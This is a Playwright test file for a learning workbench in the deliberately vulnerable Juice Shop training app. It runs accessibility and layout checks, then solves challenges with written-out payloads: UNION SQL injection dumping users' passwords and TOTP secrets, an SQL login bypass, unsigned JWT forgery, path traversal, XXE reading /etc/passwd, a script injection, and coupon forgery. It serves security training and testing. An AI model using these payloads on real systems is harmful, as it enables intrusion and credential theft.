import type { Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { addToBasket, JIM, logIn } from './testing/customers.ts'
import { type Learner, openStage, type Stage } from './testing/stage.ts'
import {
  accessibilityViolations,
  closeWorkbench,
  decodeStep,
  JSON_TYPE,
  openFile,
  openTool,
  sendInRepeater,
  workbenchDrawer,
} from './testing/workbench.ts'

const PHONE = { viewport: { width: 390, height: 844 }, hasTouch: true } as const
const DESKTOP = { viewport: { width: 1280, height: 900 } } as const

let stage: Stage
beforeAll(async () => {
  stage = await openStage()
})
afterAll(() => stage.close())

const overflow = (page: Page) =>
  page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth)

async function visitor(shop: string, look: Parameters<Stage['learner']>[1]): Promise<Learner> {
  const learner = await stage.learner(shop, look)
  await learner.open('/#/search')
  await learner.page.locator('#workbenchButton').waitFor({ state: 'attached' })
  return learner
}

describe('the workbench beside the shop', () => {
  let learner: Learner
  let page: Page
  beforeAll(async () => {
    learner = await visitor('desktop', DESKTOP)
    page = learner.page
  })
  afterAll(() => learner.context.close())

  it('opens, takes the focus and returns it', async () => {
    await page.locator('#searchQuery, #homeButton').first().focus()
    const before = await page.evaluate(() => document.activeElement?.id)
    await page.keyboard.press('Control+j')
    await workbenchDrawer(page).waitFor()
    await expect.poll(() => page.evaluate(() => document.activeElement?.getAttribute('role'))).toBe('tab')
    const left = await workbenchDrawer(page).evaluate((drawer) => drawer.getBoundingClientRect().left)
    const main = await page.locator('main').evaluate((element) => element.getBoundingClientRect().right)
    expect(main).toBeLessThanOrEqual(left)
    expect(await overflow(page)).toBe(0)
    await page.keyboard.press('Escape')
    await workbenchDrawer(page).waitFor({ state: 'hidden' })
    expect(await page.evaluate(() => document.activeElement?.id)).toBe(before)
  })

  it('is found in the palette, tool by tool, and has tabs that work by arrow keys', async () => {
    await page.keyboard.press('Control+k')
    await page.getByRole('dialog', { name: 'Jump anywhere' }).getByRole('combobox').fill('decoder')
    await page.keyboard.press('Enter')
    const selected = workbenchDrawer(page).getByRole('tab', { selected: true })
    await expect.poll(() => selected.textContent()).toBe('Decoder')
    await selected.press('ArrowRight')
    await expect.poll(() => selected.textContent()).toBe('Files')
  })

  it('is accessible in the light theme', async () => {
    for (const tool of ['Decoder', 'Files']) {
      await workbenchDrawer(page).getByRole('tab', { name: tool }).click()
      await workbenchDrawer(page)
        .getByRole('tabpanel', { name: tool })
        .getByText('With the real tools:')
        .waitFor()
      expect(await accessibilityViolations(page)).toEqual([])
    }
    await page.keyboard.press('Escape')
    await workbenchDrawer(page).waitFor({ state: 'hidden' })
  })

  it('remembers its tool and its width, also over a reload', async () => {
    await page.locator('#workbenchButton').click()
    const tabs = workbenchDrawer(page).getByRole('tab')
    await tabs.first().waitFor()
    await tabs.last().click()
    const name = await tabs.last().textContent()
    const handle = workbenchDrawer(page).getByRole('separator')
    const width = Number(await handle.getAttribute('aria-valuenow'))
    await handle.focus()
    await page.keyboard.press('ArrowLeft')
    await page.reload()
    await workbenchDrawer(page).waitFor()
    expect(await workbenchDrawer(page).getByRole('tab', { selected: true }).textContent()).toBe(name)
    expect(await handle.getAttribute('aria-valuenow')).toBe(String(width + 20))
    expect(learner.problems).toEqual([])
  })
})

describe('with the workbench alone, on a phone', () => {
  let learner: Learner
  let page: Page
  beforeAll(async () => {
    learner = await visitor('phone', PHONE)
    page = learner.page
  })

  afterEach(async () => {
    if (await workbenchDrawer(page).isVisible()) await closeWorkbench(page)
  })

  const open = (path: string) => learner.open(path)
  const isSolved = (key: string) => () => stage.application.visitor('phone').solved(key)

  it('it is opened by the menu on the narrowest phones, and fits them', async () => {
    await page.setViewportSize({ width: 320, height: 640 })
    await page.emulateMedia({ colorScheme: 'dark' })
    await page.locator('[aria-label="Open Sidenav"]').tap()
    await page
      .getByRole('dialog', { name: 'Whole site' })
      .getByRole('button', { name: /Workbench/ })
      .tap()
    for (const tool of ['Decoder', 'Files']) {
      await workbenchDrawer(page).getByRole('tab', { name: tool }).tap()
      const panel = workbenchDrawer(page).getByRole('tabpanel', { name: tool })
      await panel.getByText('With the real tools:').waitFor()
      expect(await panel.evaluate((element) => element.scrollWidth - element.clientWidth)).toBe(0)
      expect(await accessibilityViolations(page)).toEqual([])
    }
    await closeWorkbench(page)
    await page.setViewportSize(PHONE.viewport)
    await page.emulateMedia({ colorScheme: 'light' })
  })

  it('reports in plain words what it cannot do, and continues', async () => {
    const files = await openTool(page, 'Files')
    await files.getByRole('button', { name: 'Look into a file' }).tap()
    await files.locator('input[type=file]').setInputFiles({
      name: 'picture.png',
      mimeType: 'image/png',
      buffer: Buffer.from('89504e470d0a1a0a and no picture at all', 'latin1'),
    })
    await files.getByText('Its first bytes are of no known type').waitFor()
    const broken = Buffer.concat([
      Buffer.from('89504e470d0a1a0a', 'hex'),
      Buffer.from('<script>alert(1)</script>'),
    ])
    await files
      .locator('input[type=file]')
      .setInputFiles({ name: '<b>.png', mimeType: 'image/png', buffer: broken })
    await files.getByRole('button', { name: 'Lowest bits' }).tap()
    await files.getByText('That is no picture that a browser can draw.').waitFor()
    await files.getByLabel('Address in the shop').fill('https://example.org/')
    await files.getByRole('button', { name: 'Fetch' }).tap()
    await files.getByText('Only files of this shop').waitFor()
  })

  it('a picture reveals where it was taken, and the map names that place', async () => {
    const files = await openFile(page, '/assets/public/images/uploads/favorite-hiking-place.png')
    const map = await files.getByRole('link', { name: 'Show on the map' }).getAttribute('href')
    await open(`/${map?.replace('./', '')}`)
    await page.getByText('Daniel Boone National Forest').first().waitFor()
    await open('/#/forgot-password')
    await page.fill('#email', 'john@juice-sh.op')
    await page.fill('#securityAnswer', 'Daniel Boone National Forest')
    await page.fill('#newPassword', 'kumquat! kumquat!')
    await page.fill('#newPasswordRepeat', 'kumquat! kumquat!')
    await page.locator('#resetButton').tap()
    await expect.poll(isSolved('geoStalkingMetaChallenge')).toBe(true)
  })

  it('the lowest bits of a picture show who is hidden in it', async () => {
    const files = await openFile(page, '/assets/public/images/carousel/5.png')
    await files.getByRole('button', { name: 'Lowest bits' }).tap()
    const canvas = files.getByRole('img', { name: /^The lowest bit/ })
    // Without a hidden picture they are noise: half of the neighbouring pixels are equal. A picture has areas.
    await expect.poll(() => canvas.evaluate(neighboursThatAgree)).toBeGreaterThan(0.55)
    // A learner who sees it recognises the character, and tells the shop.
    const { text } = await sendInRepeater(page, 'GET /rest/captcha/ HTTP/1.1', '', '')
    const { captchaId, answer: captcha } = JSON.parse(text)
    const feedback = { captchaId, captcha, comment: 'Pickle Rick sits behind one of the ladies!', rating: 3 }
    await sendInRepeater(page, 'POST /api/Feedbacks/ HTTP/1.1', JSON_TYPE, '', JSON.stringify(feedback))
    await expect.poll(isSolved('hiddenImageChallenge')).toBe(true)
  })

  it('a continue code is made of a number that is on no board', async () => {
    const salted = { Salt: 'this is my salt', 'Least length': '60' }
    const code = await decodeStep(page, '999', 'to-hashids', salted)
    await sendInRepeater(page, `PUT /rest/continue-code/apply/${code} HTTP/1.1`, '', '')
    await expect.poll(isSolved('continueCodeChallenge')).toBe(true)
  })

  it('a leaked seed phrase opens a wallet', async () => {
    const files = await openFile(page, '/api/Feedbacks')
    const found = (await files.getByLabel('Feedbacks', { exact: true }).first().textContent()) ?? ''
    const phrase = /\b[a-z]+(?: [a-z]+){11}(?=\\?")/.exec(found)?.[0] ?? ''
    expect(phrase).not.toBe('')
    const account = await decodeStep(page, phrase, 'phrase')
    await closeWorkbench(page)
    await open('/#/juicy-nft')
    await page.fill('#privateKey', /"privateKey": "(\w+)"/.exec(account)?.[1] ?? '')
    await page.locator('#privateKey').press('Enter')
    await expect.poll(isSolved('nftUnlockChallenge'), { timeout: 40_000 }).toBe(true)
  })

  it('a secret from the database gives the second factor', async () => {
    const union = "')) UNION SELECT null,id,email,password,totpsecret,null,null,null,null FROM users--"
    const files = await openFile(page, `/rest/products/search?q=${encodeURIComponent(union)}`)
    const found =
      (await files
        .getByLabel(/^search\?q=/)
        .first()
        .textContent()) ?? ''
    const secret = /wurstbrot[^{}]*?"([A-Z2-7]{32})"/.exec(found)?.[1] ?? ''
    expect(secret).not.toBe('')
    await closeWorkbench(page)
    await open('/#/login')
    await page.fill('#email', "wurstbrot@juice-sh.op'--")
    await page.fill('#password', 'x')
    await page.locator('#loginButton').tap()
    await page.waitForURL(/2fa\/enter/)
    const code = await decodeStep(page, secret, 'totp')
    await closeWorkbench(page)
    await page.fill('#totpToken', code)
    await page.locator('#totpSubmitButton').tap()
    await expect.poll(isSolved('twoFactorAuthUnsafeSecretStorageChallenge')).toBe(true)
    // Otherwise it would leave the login screen of the next test.
    await page.waitForURL(/#\/search/)
  })

  it('a coupon is encoded in Z85', async () => {
    await logIn(learner, JIM)
    await addToBasket(learner, 'Orange Juice (1000ml)')
    await open('/#/payment/shop')
    // Saved cards move what is below them when they arrive: a tap would miss it.
    await page.locator('.mat-radio-inner-circle').first().waitFor()
    const month = new Date().toLocaleString('en-US', { month: 'short' }).toUpperCase()
    const year = String(new Date().getFullYear()).slice(2)
    const coupon = await decodeStep(page, `${month}${year}-80`, 'to-z85')
    await closeWorkbench(page)
    await page.locator('#collapseCouponElement').tap()
    await page.fill('#coupon', coupon)
    await page.locator('#applyCouponButton').tap()
    await page.locator('#collapseCouponElement .confirmation', { hasText: '80%' }).waitFor()
    await page.locator('.mat-radio-inner-circle').first().tap()
    await page.locator('.nextButton').tap()
    await page.locator('#checkoutButton').tap()
    await expect.poll(isSolved('forgedCouponChallenge')).toBe(true)
  })

  it('a token is decoded, changed and left unsigned', async () => {
    const token = await page.evaluate(() => localStorage.getItem('token') ?? '')
    const inside = await decodeStep(page, token, 'from-jwt')
    expect(inside).toContain('"email": "jim@juice-sh.op"')
    const forgedContent = inside.replace('jim@juice-sh.op', 'jwtn3d@juice-sh.op')
    const forged = await decodeStep(page, forgedContent, 'to-jwt', { 'Sign with': 'none' })
    expect(forged).toMatch(/^[\w-]+\.[\w-]+\.$/)
    await sendInRepeater(page, 'GET /rest/basket/1 HTTP/1.1', `Authorization: Bearer ${forged}`, '', '')
    await expect.poll(isSolved('jwtUnsignedChallenge')).toBe(true)
  })

  it('an archive leaves its folder', async () => {
    await open('/#/complain')
    const files = await openTool(page, 'Files')
    await files.getByRole('button', { name: 'Make a file' }).tap()
    await files.getByLabel('Name, written exactly like this').fill('../../ftp/legal.md')
    await files.getByLabel('Content').fill('Whoever reads this owes me a juice.')
    await files.getByRole('button', { name: /^Put into: Room for one invoice/ }).tap()
    await files.getByRole('status').filter({ hasText: 'archive.zip' }).waitFor()
    await closeWorkbench(page)
    await page.fill('#complaintMessage', 'See the archive.')
    await page.locator('#submitButton').tap()
    await expect.poll(isSolved('fileWriteChallenge'), { timeout: 40_000 }).toBe(true)
  })

  it('an XML file includes another file', async () => {
    await open('/#/complain')
    const files = await openTool(page, 'Files')
    await files.getByRole('button', { name: 'XML', exact: true }).tap()
    await files
      .getByLabel('Content')
      .fill('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>')
    await files.getByRole('button', { name: /^Put into: Room for one invoice/ }).tap()
    await files.getByRole('status').filter({ hasText: 'data.xml' }).waitFor()
    await closeWorkbench(page)
    await page.fill('#complaintMessage', 'See the file.')
    await page.locator('#submitButton').tap()
    await expect.poll(isSolved('xxeFileDisclosureChallenge'), { timeout: 40_000 }).toBe(true)
  })

  it('caused no page error in any step', () => {
    expect(learner.problems).toEqual([])
  })
})

/** Runs in the page: how many pixels equal their right neighbour. */
function neighboursThatAgree(element: SVGElement | HTMLElement): number {
  if (!(element instanceof HTMLCanvasElement) || element.width < 100) return 0
  const data = element.getContext('2d')?.getImageData(0, 0, element.width, element.height).data
  if (!data) return 0
  let same = 0
  for (let place = 0; place + 4 < data.length; place += 4) {
    if (data[place] === data[place + 4]) same += 1
  }
  return same / (data.length / 4)
}
